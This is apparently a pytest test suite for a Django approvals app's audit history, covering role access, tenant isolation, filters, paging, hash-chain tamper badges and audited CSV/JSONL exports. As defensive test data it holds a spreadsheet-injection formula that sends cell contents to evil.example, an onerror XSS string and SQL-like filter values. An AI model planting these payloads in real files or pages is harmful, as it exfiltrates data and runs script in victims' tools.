"""Audit history: auditors and admins read, filter, page and export it; every export is audited."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, datetime
from unittest import mock

import pytest
from django.core.cache import cache
from django.db import connection, transaction
from django.http import QueryDict
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils.html import escape

from approvals.audit import chain as audit
from approvals.audit import history
from approvals.audit.history import EXPORT_FIELDS
from approvals.forms.filters import AuditFilterForm
from approvals.models import AuditEvent, Role
from approvals.policies.versions import save_policy
from tests.support import TenantFactory, member

pytestmark = pytest.mark.django_db

AUDIT = reverse("approvals:audit")


@pytest.fixture(autouse=True)
def _fresh_chain_cache():
    # Chain reports are cached by tenant id and head; ids repeat across rolled-back tests.
    cache.clear()


def event(tenant, action: str = "ticket.created", *, when: datetime | None = None, **fields):
    with transaction.atomic():
        if when is None:
            return audit.append(tenant_id=tenant.pk, action=action, **fields)
        with mock.patch("django.utils.timezone.now", return_value=when):
            return audit.append(tenant_id=tenant.pk, action=action, **fields)


def shown(response) -> list[int]:
    return [e.pk for e in response.context["page"].rows]


def export(client, fmt: str, params: dict | None = None):
    return client.get(reverse("approvals:audit-export", args=[fmt]), params or {})


def streamed(response) -> str:
    return b"".join(response.streaming_content).decode()


def test_audit_auditor_sees_the_events(client):
    tenant = TenantFactory()
    created = event(tenant, tool_name="deploy_release", outcome="pending", actor_name="alice")
    client.force_login(member(tenant, Role.AUDITOR))

    response = client.get(AUDIT)

    assert response.status_code == 200
    assert shown(response) == [created.pk]
    body = response.content.decode()
    assert "<code>ticket.created</code>" in body
    assert "Approval requested by <strong>alice</strong> (<strong>deploy_release</strong>)." in body
    assert '<span class="tool">deploy_release</span>' in body


def test_audit_admin_sees_the_events(client):
    tenant = TenantFactory()
    created = event(tenant)
    client.force_login(member(tenant, Role.ADMIN))

    response = client.get(AUDIT)

    assert shown(response) == [created.pk]


@pytest.mark.parametrize("role", [Role.VIEWER, Role.APPROVER])
def test_audit_is_403_for_roles_without_history(client, role):
    tenant = TenantFactory()
    event(tenant)
    client.force_login(member(tenant, role))

    response = client.get(AUDIT)

    assert response.status_code == 403
    assert "Only auditors and admins read the audit history." in response.content.decode()


def test_audit_never_shows_tenants_where_the_user_has_no_history_role(client):
    audited, viewed = TenantFactory(), TenantFactory()
    user = member(audited, Role.AUDITOR)
    member(viewed, Role.VIEWER, username=user.username)
    own = event(audited)
    event(viewed, actor_name="their-secret-actor")
    client.force_login(user)

    response = client.get(AUDIT)

    assert shown(response) == [own.pk]
    assert "their-secret-actor" not in response.content.decode()


def test_audit_filter_for_another_tenant_is_400(client):
    tenant, other = TenantFactory(), TenantFactory()
    event(other)
    client.force_login(member(tenant, Role.AUDITOR))

    response = client.get(AUDIT, {"tenant": other.slug})

    assert response.status_code == 400
    assert escape(f"You cannot read the history of a tenant called '{other.slug}'.") in (
        response.content.decode()
    )


# --- filters ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("params", "wanted"),
    [
        ({"action": "ticket.approved"}, "approved"),
        ({"actor": "bob"}, "bob"),
        ({"tool": "publish_invoice"}, "invoice"),
        ({"outcome": "rejected"}, "rejected"),
    ],
)
def test_audit_filters_narrow_the_rows(client, params, wanted):
    tenant = TenantFactory()
    events = {
        "approved": event(tenant, "ticket.approved", actor_name="alice", outcome="approved"),
        "bob": event(tenant, "run.paused", actor_name="bob", outcome="paused"),
        "invoice": event(tenant, "ticket.created", tool_name="publish_invoice", outcome="pending"),
        "rejected": event(tenant, "ticket.rejected", actor_name="carol", outcome="rejected"),
    }
    client.force_login(member(tenant, Role.AUDITOR))

    response = client.get(AUDIT, params)

    assert response.status_code == 200
    assert shown(response) == [events[wanted].pk]


def test_audit_filters_by_tenant(client):
    one, two = TenantFactory(), TenantFactory()
    user = member(one, Role.AUDITOR)
    member(two, Role.ADMIN, username=user.username)
    event(one)
    wanted = event(two)
    client.force_login(user)

    response = client.get(AUDIT, {"tenant": two.slug})

    assert shown(response) == [wanted.pk]


def test_audit_filters_by_an_inclusive_date_range(client):
    tenant = TenantFactory()
    day = [event(tenant, when=datetime(2026, 1, d, 12, tzinfo=UTC)) for d in (1, 2, 3)]
    last_moment = event(tenant, when=datetime(2026, 1, 2, 23, 59, 59, tzinfo=UTC))
    client.force_login(member(tenant, Role.AUDITOR))

    response = client.get(AUDIT, {"since": "2026-01-02", "until": "2026-01-02"})
    since = client.get(AUDIT, {"since": "2026-01-02"})
    until = client.get(AUDIT, {"until": "2026-01-01"})

    assert shown(response) == [last_moment.pk, day[1].pk]
    assert shown(since) == [last_moment.pk, day[2].pk, day[1].pk]
    assert shown(until) == [day[0].pk]


@pytest.mark.parametrize(
    ("params", "message"),
    [
        ({"outcome": "bogus"}, "Unknown outcome 'bogus'."),
        ({"action": "DROP TABLE"}, "Actions look like ticket.approved or run.completed."),
        ({"actor": "<script>"}, "That is not a valid actor name."),
        ({"tool": "a b"}, "That is not a valid tool name."),
        ({"since": "yesterday"}, "Enter a valid date."),
        ({"since": "2026-02-01", "until": "2026-01-01"}, "The start date is after the end date."),
        ({"after": "%%%"}, "that page link is broken or out of date"),
    ],
)
def test_audit_bad_filter_value_is_400_with_the_message(client, params, message):
    tenant = TenantFactory()
    event(tenant)
    client.force_login(member(tenant, Role.AUDITOR))

    response = client.get(AUDIT, params)

    assert response.status_code == 400
    assert response.context["page"] is None
    assert escape(message) in response.content.decode()


@pytest.mark.parametrize("url", [AUDIT, reverse("approvals:audit-export", args=["csv"])])
def test_audit_until_the_last_representable_day_is_not_a_500(client, url):
    # A valid date: "until" adds a day to it, which overflows on 9999-12-31.
    tenant = TenantFactory()
    event(tenant)
    client.force_login(member(tenant, Role.AUDITOR))
    client.raise_request_exception = False

    response = client.get(url, {"until": "9999-12-31"})

    assert response.status_code == 200


# --- pages and queries -----------------------------------------------------------------------


def test_audit_pages_by_keyset_without_duplicates_or_gaps(client):
    tenant = TenantFactory()
    events = [event(tenant, outcome=str(index)) for index in range(120)]
    client.force_login(member(tenant, Role.AUDITOR))

    pages: list[list[int]] = []
    query = ""
    while True:
        response = client.get(f"{AUDIT}?{query}")
        assert response.status_code == 200
        pages.append(shown(response))
        query = response.context["next_query"]
        if not query:
            break

    assert [len(page) for page in pages] == [50, 50, 20]
    assert [pk for page in pages for pk in page] == [e.pk for e in reversed(events)]


def queries_for(client, url: str) -> int:
    with CaptureQueriesContext(connection) as captured:
        assert client.get(url).status_code == 200
    return len(captured)


def test_audit_queries_do_not_grow_with_events(client, django_assert_num_queries):
    tenant = TenantFactory()
    event(tenant)
    client.force_login(member(tenant, Role.AUDITOR))
    at_one = queries_for(client, AUDIT)

    for index in range(49):
        event(tenant, actor_name=f"user{index}", run_id=index + 1, ticket_id=index + 1)
    with django_assert_num_queries(at_one):
        response = client.get(AUDIT)
    assert len(shown(response)) == 50


def test_audit_htmx_request_for_rows_returns_the_partial_only(client):
    tenant = TenantFactory()
    event(tenant)
    client.force_login(member(tenant, Role.AUDITOR))

    response = client.get(AUDIT, headers={"HX-Request": "true", "HX-Target": "audit-rows"})

    body = response.content.decode().strip()
    assert body.startswith('<div id="audit-rows">')
    assert "<html" not in body


# --- the chain badge -------------------------------------------------------------------------


def test_audit_chain_badge_says_verified(client):
    tenant = TenantFactory(slug="acme")
    event(tenant)
    event(tenant, "ticket.approved")
    client.force_login(member(tenant, Role.AUDITOR))

    response = client.get(AUDIT)

    assert response.context["chains"][0]["report"].ok is True
    assert "✓ acme: chain verified" in response.content.decode()


def test_audit_chain_badge_says_broken_when_an_event_was_forged(client):
    tenant = TenantFactory(slug="acme")
    first = event(tenant)
    # Inserting is all the append-only guard allows; a forged row breaks the chain.
    AuditEvent.objects.create(
        tenant=tenant,
        seq=2,
        created_at=first.created_at,
        actor_name="mallory",
        action="ticket.approved",
        prev_hash=first.hash,
        hash="0" * 64,
        # Claiming the chain's key: without it, the link cannot be right.
        hash_key_id=first.hash_key_id,
    )
    client.force_login(member(tenant, Role.AUDITOR))

    response = client.get(AUDIT)

    assert "✕ acme: chain broken at #2 — contents differ from their hash" in (
        response.content.decode()
    )


# --- exports ---------------------------------------------------------------------------------


def test_audit_csv_export_streams_the_filtered_rows_with_a_header(client):
    tenant = TenantFactory(slug="acme")
    wanted = event(tenant, "ticket.created", tool_name="deploy_release", detail={"a": 1})
    event(tenant, "ticket.approved")
    auditor = member(tenant, Role.AUDITOR)
    client.force_login(auditor)

    response = export(client, "csv", {"action": "ticket.created"})

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="audit-')
    rows = list(csv.reader(io.StringIO(streamed(response))))
    assert rows == [
        EXPORT_FIELDS,
        [
            "acme",
            "1",
            wanted.created_at.isoformat(),
            "system",
            "ticket.created",
            "",
            "",
            "deploy_release",
            "",
            "",
            '{"a": 1}',
            wanted.hash,
            "Approval requested by system (deploy_release).",
        ],
    ]
    exported = AuditEvent.objects.get(action="audit.exported")
    assert (exported.tenant_id, exported.actor_id) == (tenant.pk, auditor.pk)
    assert exported.detail == {"format": "csv", "filters": {"action": "ticket.created"}}


FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Open")'


def test_audit_csv_export_neutralises_cells_a_spreadsheet_would_run(client):
    tenant = TenantFactory(slug="acme")
    event(tenant, "ticket.created", actor_name=FORMULA, tool_name="+cmd", outcome="-1+1")
    event(tenant, "ticket.created", actor_name="@SUM(A1)", tool_name="\tx", outcome="\ry")
    client.force_login(member(tenant, Role.AUDITOR))

    rows = list(csv.reader(io.StringIO(streamed(export(client, "csv")))))

    cells = [dict(zip(EXPORT_FIELDS, row, strict=True)) for row in rows[1:3]]
    assert [(c["actor"], c["tool"], c["outcome"]) for c in cells] == [
        ("'" + FORMULA, "'+cmd", "'-1+1"),
        ("'@SUM(A1)", "'\tx", "'\ry"),
    ]
    assert not any(cell[:1] in "=+-@\t\r" for row in rows for cell in row if cell)


def test_audit_jsonl_export_keeps_such_values_exact(client):
    tenant = TenantFactory(slug="acme")
    event(tenant, "ticket.created", actor_name=FORMULA, tool_name="+cmd", detail={"a": "=1"})
    client.force_login(member(tenant, Role.AUDITOR))

    [line] = streamed(export(client, "jsonl", {"action": "ticket.created"})).splitlines()

    exported = json.loads(line)
    assert (exported["actor"], exported["tool"], exported["detail"]) == (
        FORMULA,
        "+cmd",
        {"a": "=1"},
    )


def test_audit_jsonl_export_streams_one_object_per_line(client):
    tenant = TenantFactory(slug="acme")
    first = event(tenant, "ticket.created")
    second = event(tenant, "ticket.created", outcome="pending")
    event(tenant, "run.paused")
    client.force_login(member(tenant, Role.ADMIN))

    response = export(client, "jsonl", {"action": "ticket.created"})

    assert response["Content-Type"] == "application/x-ndjson"
    lines = streamed(response).splitlines()
    objects = [json.loads(line) for line in lines]
    assert [(o["seq"], o["hash"], o["outcome"]) for o in objects] == [
        (first.seq, first.hash, ""),
        (second.seq, second.hash, "pending"),
    ]
    assert sorted(objects[0]) == sorted(EXPORT_FIELDS)
    assert AuditEvent.objects.get(action="audit.exported").detail["format"] == "jsonl"


def test_audit_export_covers_only_the_users_history_tenants(client):
    audited, viewed = TenantFactory(), TenantFactory()
    user = member(audited, Role.AUDITOR)
    member(viewed, Role.VIEWER, username=user.username)
    event(audited, actor_name="ours")
    event(viewed, actor_name="theirs")
    client.force_login(user)

    response = export(client, "jsonl")

    actors = [json.loads(line)["actor"] for line in streamed(response).splitlines()]
    # The export's own audit event commits before the rows stream, so it is the last row.
    assert actors == ["ours", user.username]
    assert list(AuditEvent.objects.filter(action="audit.exported").values_list("tenant_id")) == [
        (audited.pk,)
    ]


def test_audit_export_of_another_tenant_is_400_and_not_audited(client):
    tenant, other = TenantFactory(), TenantFactory()
    event(other)
    client.force_login(member(tenant, Role.AUDITOR))

    response = export(client, "jsonl", {"tenant": other.slug})

    assert response.status_code == 400
    assert response.content.decode() == (
        f"The filters are not valid: You cannot read the history of a tenant called '{other.slug}'."
    )
    assert not AuditEvent.objects.filter(action="audit.exported").exists()


def test_audit_export_unknown_format_is_404(client):
    tenant = TenantFactory()
    client.force_login(member(tenant, Role.AUDITOR))

    response = export(client, "xml")

    assert response.status_code == 404
    assert not AuditEvent.objects.filter(action="audit.exported").exists()


def test_audit_export_by_viewer_is_403_and_not_audited(client):
    tenant = TenantFactory()
    event(tenant)
    client.force_login(member(tenant, Role.VIEWER))

    response = export(client, "csv")

    assert response.status_code == 403
    assert not AuditEvent.objects.filter(action="audit.exported").exists()


def test_audit_export_with_bad_filters_is_400_and_not_audited(client):
    tenant = TenantFactory()
    client.force_login(member(tenant, Role.AUDITOR))

    response = export(client, "csv", {"outcome": "bogus"})

    assert response.status_code == 400
    assert response.content.decode() == "The filters are not valid: Unknown outcome 'bogus'."
    assert not AuditEvent.objects.filter(action="audit.exported").exists()


def test_audit_export_post_is_refused(client):
    tenant = TenantFactory()
    client.force_login(member(tenant, Role.AUDITOR))

    response = client.post(reverse("approvals:audit-export", args=["csv"]))

    assert response.status_code == 405


# --- an event as a sentence -----------------------------------------------------------------


def test_audit_policy_change_reads_approvals_needed_one_to_two(client):
    tenant = TenantFactory()
    admin = member(tenant, Role.ADMIN, username="alice")
    save_policy(tenant=tenant, user=admin, tool_name="deploy_release", required_approvals=2)
    client.force_login(admin)

    response = client.get(AUDIT, {"action": "policy.changed"})

    body = response.content.decode()
    assert (
        "<strong>alice</strong> changed the policy for <strong>any agent / deploy_release</strong>"
        " to v<strong>1</strong>."
    ) in body
    assert (
        '<li class="change changed"><span class="what">approvals needed</span> '
        "<del>1</del> → <ins>2</ins></li>"
    ) in body


def test_audit_session_cleared_says_which_session_and_store(client):
    tenant = TenantFactory()
    event(
        tenant,
        "session.cleared",
        actor_name="admin",
        outcome="cleared",
        detail={"store": "sqlite", "session_id": "acme-release-7", "items": 12},
    )
    client.force_login(member(tenant, Role.AUDITOR))

    body = client.get(AUDIT).content.decode()

    assert (
        "<strong>admin</strong> cleared session <strong>acme-release-7</strong> in the "
        "<strong>sqlite</strong> store: <strong>12</strong> items."
    ) in body


def test_audit_values_in_a_sentence_are_shown_as_text(client):
    tenant = TenantFactory()
    event(
        tenant,
        "ticket.commented",
        actor_name="mallory",
        ticket_id=5,
        detail={"text": '<img src=x onerror="alert(1)">'},
    )
    client.force_login(member(tenant, Role.AUDITOR))

    body = client.get(AUDIT).content.decode()

    assert "<img src=x" not in body
    assert "“<strong>" + escape('<img src=x onerror="alert(1)">') + "</strong>”" in body


def test_audit_action_filter_groups_actions_by_area_with_labels(client):
    tenant = TenantFactory()
    event(tenant)
    client.force_login(member(tenant, Role.AUDITOR))

    body = client.get(AUDIT, {"action": "session.cleared"}).content.decode()

    areas = re.findall(r'<optgroup label="([^"]+)">', body)
    assert areas[:5] == ["Tickets", "Runs", "Policies", "Members", "Sessions"]
    assert {"API", "Sign-in", "Notifications", "Audit log"} <= set(areas)
    assert (
        '<optgroup label="Sessions"><option value="session.cleared" selected>Session cleared'
        "</option></optgroup>"
    ) in body
    assert ">ticket.approved</option>" not in body


def test_audit_actor_filter_matches_part_of_a_name_in_any_case(client):
    tenant = TenantFactory()
    alice = event(tenant, actor_name="alice")
    alicia = event(tenant, actor_name="Alicia")
    event(tenant, actor_name="bob")
    client.force_login(member(tenant, Role.AUDITOR))

    response = client.get(AUDIT, {"actor": "ALI"})

    assert shown(response) == [alicia.pk, alice.pk]


def test_audit_search_finds_words_of_the_detail(client):
    tenant = TenantFactory()
    wanted = event(
        tenant,
        "session.cleared",
        detail={"store": "sqlite", "session_id": "acme-release-7", "items": 1},
    )
    event(tenant, "session.cleared", detail={"store": "sqlite", "session_id": "other", "items": 1})
    client.force_login(member(tenant, Role.AUDITOR))

    response = client.get(AUDIT, {"q": "RELEASE-7"})

    assert response.status_code == 200
    assert shown(response) == [wanted.pk]


def test_audit_search_reads_a_bounded_window_then_offers_older_events(client, monkeypatch):
    monkeypatch.setattr(history, "SEARCH_WINDOW", 3)
    tenant = TenantFactory()
    old = event(tenant, detail={"release": "2026.01.01"})
    for _ in range(4):
        event(tenant, detail={"release": "2026.07.24"})
    client.force_login(member(tenant, Role.AUDITOR))

    first = client.get(AUDIT, {"q": "2026.01.01"})
    second = client.get(f"{AUDIT}?{first.context['next_query']}")

    assert shown(first) == []
    assert "The search read events back to" in first.content.decode()
    assert shown(second) == [old.pk]
    assert second.context["next_query"] == ""


def test_audit_search_queries_do_not_grow_with_events(client, django_assert_num_queries):
    tenant = TenantFactory()
    event(tenant, actor_name="user-a")
    client.force_login(member(tenant, Role.AUDITOR))
    url = f"{AUDIT}?actor=user&q=user"
    at_one = queries_for(client, url)

    for index in range(49):
        event(tenant, actor_name=f"user{index}", run_id=index + 1, ticket_id=index + 1)
    with django_assert_num_queries(at_one):
        response = client.get(url)
    assert len(shown(response)) == 50


def test_audit_search_with_control_characters_is_400(client):
    tenant = TenantFactory()
    client.force_login(member(tenant, Role.AUDITOR))

    response = client.get(AUDIT, {"q": "a\x01b"})

    assert response.status_code == 400
    assert "The search cannot hold control characters." in response.content.decode()


def test_audit_rows_of_a_ticket_link_to_its_decision_record(client):
    tenant = TenantFactory()
    event(tenant, "ticket.approved", ticket_id=41, run_id=7, tool_name="deploy_release")
    client.force_login(member(tenant, Role.AUDITOR))

    body = client.get(AUDIT).content.decode()

    record = reverse("approvals:ticket-record", args=[41])
    assert f'<a href="{record}" class="record-link">decision record</a>' in body


def test_audit_export_has_the_sentence_of_each_event(client):
    tenant = TenantFactory(slug="acme")
    event(
        tenant,
        "session.cleared",
        actor_name="admin",
        detail={"store": "redis", "session_id": "s-1", "items": 2},
    )
    client.force_login(member(tenant, Role.AUDITOR))

    [line] = streamed(export(client, "jsonl", {"action": "session.cleared"})).splitlines()

    assert json.loads(line)["sentence"] == (
        "admin cleared session s-1 in the redis store: 2 items."
    )


def test_the_filters_show_again_what_was_chosen_and_every_name_not_sent_as_empty():
    form = AuditFilterForm(
        QueryDict("action=session.cleared&tenant=acme&q=2026.07"), tenant_slugs=["acme"]
    )

    assert form.chosen == {
        "tenant": "acme",
        "tool": "",
        "after": "",
        "actor": "",
        "q": "2026.07",
        "action": "session.cleared",
        "outcome": "",
        "since": "",
        "until": "",
    }
